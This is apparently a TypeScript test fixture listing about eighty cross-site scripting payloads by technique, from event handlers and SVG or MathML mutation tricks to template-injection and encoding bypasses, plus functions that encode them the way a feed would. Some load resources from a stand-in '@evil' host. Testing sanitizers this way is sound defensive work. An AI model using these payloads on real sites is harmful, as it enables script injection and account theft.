/** Markup that runs a script if it is parsed as HTML, by technique. `@` is replaced by a number. */
export const PAYLOADS: Record<string, string> = {
  'a script': '<script>pwned(@)</script>',
  'a script in mixed case with blanks': '<ScRiPt \n>pwned(@)</sCrIpT\t>',
  'a script from elsewhere': '<script src="@evil"></script>',
  'a module': '<script type=module>pwned(@)</script>',
  'a script within a script': '<scr<script>ipt>pwned(@)</scr</script>ipt>',
  'a script never ended': '<script>pwned(@)//',
  'a script behind a slash': '<script/x>pwned(@)</script>',
  'an image that fails': '<img src=x onerror=pwned(@)>',
  'an image with slashes for blanks': '<img/src=x/onerror=pwned(@)>',
  'an image whose handler is in backticks': '<img src=`x` onerror=`pwned(@)`>',
  'an image whose tag never ends': '<img src=x onerror=pwned(@) ',
  'an image behind a broken comment': '<!--><img src=x onerror=pwned(@)>-->',
  'an image behind a bogus comment': '<?x ><img src=x onerror=pwned(@)>',
  'an image behind an end tag': '</p x="><img src=x onerror=pwned(@)>">',
  'an image in srcset': '<img srcset="x 1x" onerror=pwned(@)>',
  'a handler that leaves its attribute': '"><img src=x onerror="pwned(@)',
  'a handler that leaves a quoted attribute': "' autofocus onfocus='pwned(@)",
  'a handler that leaves a bare attribute': 'x onpointerover=pwned(@) y',
  'a handler on the body': '<body onload=pwned(@)>',
  'a handler that focus starts': '<input autofocus onfocus=pwned(@)>',
  'a handler that an animation starts':
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=pwned(@)>x</b>',
  'a handler that opening starts': '<details open ontoggle=pwned(@)><summary>x</summary></details>',
  'a popover': '<button popovertarget=x>x</button><b popover id=x onbeforetoggle=pwned(@)>x</b>',
  'a video': '<video><source onerror=pwned(@)></video>',
  'a sound': '<audio src=x onerror=pwned(@) controls></audio>',
  'a marquee': '<marquee onstart=pwned(@)>x</marquee>',
  'an SVG that loads': '<svg onload=pwned(@)>',
  'a script in SVG': '<svg><script>pwned(@)</script></svg>',
  'a script in SVG by reference': '<svg><script href="data:text/javascript,pwned(@)" /></svg>',
  'a link in SVG that is animated':
    '<svg><a><animate attributeName=href values=javascript:pwned(@) /><text y=9>x</text></a></svg>',
  'SVG by use': '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(@)/>#x"/></svg>',
  'HTML in SVG': '<svg><foreignObject><img src=x onerror=pwned(@)></foreignObject></svg>',
  'HTML behind a style in SVG': '<svg></p><style><a id="</style><img src=x onerror=pwned(@)>">',
  'HTML behind a title in SVG': '<svg><title><img src=x onerror=pwned(@)></title></svg>',
  'MathML with a link': '<math href="javascript:pwned(@)">x</math>',
  'mutation by MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(@)&gt;">',
  'mutation by nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(@)>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=pwned(@)>">',
  'mutation by a template': '<template><s></template></s><img src=x onerror=pwned(@)>',
  'mutation by plaintext': '<x><plaintext><img src=x onerror=pwned(@)>',
  'mutation by textarea': '<textarea></textarea x><img src=x onerror=pwned(@)>',
  'mutation by title': '<title><a title="</title><img src=x onerror=pwned(@)>">',
  'mutation by select': '<select><style></select><img src=x onerror=pwned(@)></style>',
  'mutation by CDATA': '<svg><![CDATA[><img src=x onerror=pwned(@)>]]>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=pwned(@)>">',
  'a template with a shadow tree':
    '<div><template shadowrootmode=open><img src=x onerror=pwned(@)></template></div>',
  'a frame': '<iframe src="javascript:parent.pwned(@)"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.pwned(@)</script>"></iframe>',
  'a frame from elsewhere': '<iframe src="@evil"></iframe>',
  'an object': '<object data="javascript:pwned(@)"></object>',
  'an embed': '<embed src="javascript:pwned(@)">',
  'a link that is clicked by itself': '<a id=x href="javascript:pwned(@)">x</a><label for=x>x</label>',
  'a form': '<form action="javascript:pwned(@)"><button autofocus>x</button></form>',
  'a button of its own action':
    '<form id=f></form><button form=f formaction="javascript:pwned(@)">x</button>',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:pwned(@)">',
  'a policy of its own': '<meta http-equiv=Content-Security-Policy content="script-src *">',
  'a base': '<base href="@evil">',
  'a style sheet': '<link rel=stylesheet href="@evil" onload=pwned(@)>',
  'a preload': '<link rel=preload as=image href="@evil" onload=pwned(@)>',
  'a style': '<style>*{background:url(@evil)}</style>',
  'a style with an import': '<style>@import "@evil";</style>',
  'a style attribute': '<p style="background:url(@evil);position:fixed;inset:0">x</p>',
  'an import map': '<script type=importmap>{"imports":{"lit":"@evil"}}</script>',
  'a slot': '<slot name=heading onslotchange=pwned(@)></slot>',
  'a block within the block': '<related-posts src="@evil" loading=eager></related-posts>',
  "names that clobber the page's": '<a id=pwned></a><form name=document><input name=location></form>',
  'an expression of a template engine': '{{constructor.constructor("pwned(@)")()}}',
  'an expression of a template literal': '\u0024{pwned(@)}`;pwned(@)//',
  'a marker of the template engine that the block is written in':
    '<!--?lit$1$--><?lit$2$><b $lit$="\u0024{pwned(@)}">',
  'a script in UTF-7': '+ADw-script+AD4-pwned(@)+ADw-/script+AD4-',
  'a script in overlong UTF-8, read byte by byte': 'À¼scriptÀ¾pwned(@)À¼/scriptÀ¾',
  'a script in full-width characters': '＜script＞pwned(@)＜/script＞',
  'a script with null characters': '<scr\0ipt>pwned(@)</scr\0ipt><img src=x o\0nerror=pwned(@)>',
  'a script after a null character': '\0<script>pwned(@)</script>',
  'a script in a JSON string': '"}]}</script><script>pwned(@)</script>',
  'a script between escape sequences': '\u001B$B<script>pwned(@)</script>\u001B(B',
  'an end tag first': '</a></h3></li></ul></section><script>pwned(@)</script>',
  'a shortcode': '[html]<script>pwned(@)</script>[/html]',
  'a letter that folds into an ASCII one': '<ſcript>pwned(@)</ſcript><ımg src=x onerror=pwned(@)>',
  'characters that case mapping makes longer': '<img src=x title="İİİİ" onerror=pwned(@)>',
};

/** The ways to encode text in a feed. */
export const ENCODINGS: Record<string, (text: string) => string> = {
  'as it is': (text) => text,
  'in entities': entities,
  'in entities of entities': (text) => entities(entities(text)),
  'within CDATA': (text) => `<![CDATA[${text}]]>`,
  'in numbers': (text) => numbers(text, (code) => `&#${code};`),
  'in hexadecimal numbers with zeros and without an end': (text) =>
    numbers(text, (code) => `&#x${code.toString(16).padStart(7, '0')}`),
  'percent-encoded': (text) => encodeURIComponent(text),
  'within a paragraph': (text) => `<p title="x">${text}</p>`,
  'within a comment': (text) => `<!-- ${text} -->${text}`,
};

function entities(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&${NAMES[character]};`);
}

const NAMES: Record<string, string> = { '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot', "'": 'apos' };

function numbers(text: string, write: (code: number) => string): string {
  return [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
}
